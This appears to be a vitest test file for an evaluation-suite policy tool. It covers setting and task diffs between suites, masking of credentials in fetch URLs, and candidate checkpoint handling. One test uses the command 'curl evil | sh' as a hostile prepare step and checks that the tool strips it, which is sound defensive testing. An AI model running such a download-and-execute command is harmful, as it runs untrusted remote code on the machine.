import { describe, expect, it } from 'vitest'
import { otherCheckpoints } from '../../src/policy/applicable.ts'
import { withCandidateOf } from '../../src/policy/candidate.ts'
import { settingChanges, taskChanges } from '../../src/policy/settings.ts'
import { suiteWith } from './build.ts'

const rules = ['{metric: perplexity, max_rise: 2%}']
const base = suiteWith(rules)

describe('settings of two suites', () => {
  it.each([
    ['seed: 2', 'seed: 1 → 2 changed'],
    ['resamples: 5000', 'resamples: 2000 → 5000 changed'],
    ['error_budget: 1%', 'error_budget: 0.05 → 0.01 loosened'],
    ['error_budget: 10%', 'error_budget: 0.05 → 0.1 tightened'],
    ['inconclusive: block', 'inconclusive: info → block tightened'],
    ['forgetting: {ratio: {mild: 9%}}', 'forgetting.ratio.mild: 0.02 → 0.09 loosened'],
    ['device: cpu\nthreads: 2', 'baseline.device: auto → cpu changed'],
    ['watch: {alarms: {long_answers: false}}', 'watch.alarms.long_answers: null → false added'],
  ])('%s', (more, told) => {
    const said = settingChanges(base, suiteWith(rules, more)).map(
      ({ what, base: from, head, turn }) => `${what}: ${from} → ${head} ${turn}`,
    )
    expect(said).toContain(told)
  })

  it('are told without what signs in, by which alone they do not differ', () => {
    const fetched = (address: string) => ({ ...base, baseline: { ...base.baseline, prepare: `curl ${address}` } })
    const own = fetched('https://ann:s3cret@host/a')
    expect(settingChanges(own, fetched('https://***@host/a'))).toEqual([])
    const [change] = settingChanges(own, fetched('https://host/b?token=s3cret'))
    expect(change).toMatchObject({ base: 'curl https://***@host/a', head: 'curl https://host/b?token=***' })
  })

  it('do not differ by comments, order, places or folders', () => {
    const spread = suiteWith(rules, '\n# a comment\nseed: 1\n\n')
    const moved = { ...spread, folder: '/elsewhere', file: 'other.yml', sha256: 'f' }
    expect(settingChanges(base, moved)).toEqual([])
    expect(taskChanges(base, moved)).toEqual([])
  })

  it('tell tasks that are gone, new, or asked otherwise, in the words of a suite', () => {
    const tasks = `  qa: {kind: generate, role: domain, data: {path: qa.jsonl, limit: 9}, metrics: [exact_match], max_new_tokens: 8}
  more: {kind: perplexity, data: more.jsonl, metrics: [perplexity]}
`
    const changes = taskChanges(base, suiteWith(['{metric: perplexity, max: 9}'], '', tasks))
    expect(changes.map(({ task, turn }) => [task, turn])).toEqual([
      ['texts', 'removed'],
      ['qa', 'changed'],
      ['more', 'added'],
    ])
    const said = changes[1]!.settings.map(({ what, base: from, head }) => `${what}: ${from} → ${head}`)
    expect(said.sort()).toEqual([
      'data.limit: null → 9',
      'max_new_tokens: 256 → 8',
      'metrics: exact_match, rougeL → exact_match',
      'role: general → domain',
    ])
  })
})

describe('the candidate', () => {
  const on = (candidate: string) => ({ ...base, candidate: { ...base.candidate, path: candidate } })

  it('is what a change brings, and no rule', () => {
    const judged = withCandidateOf(on('hf:acme/legal@2'), on('hf:acme/legal@1'))!
    expect(judged.candidate.path).toBe('hf:acme/legal@2')
    expect(settingChanges(judged, on('hf:acme/legal@2'))).toEqual([])
    expect(otherCheckpoints(judged, on('hf:acme/legal@2'))).toEqual([])
  })

  it('keeps the commands of the base, which would run on the machine', () => {
    const hostile = { ...base, candidate: { ...base.candidate, path: 'new', prepare: 'curl evil | sh' } }
    expect(withCandidateOf(hostile, base)!.candidate).toMatchObject({ path: 'new', prepare: null })
  })

  it('does not become answers that somebody recorded', () => {
    expect(withCandidateOf(on('recorded:answers'), base)).toBeNull()
  })
})
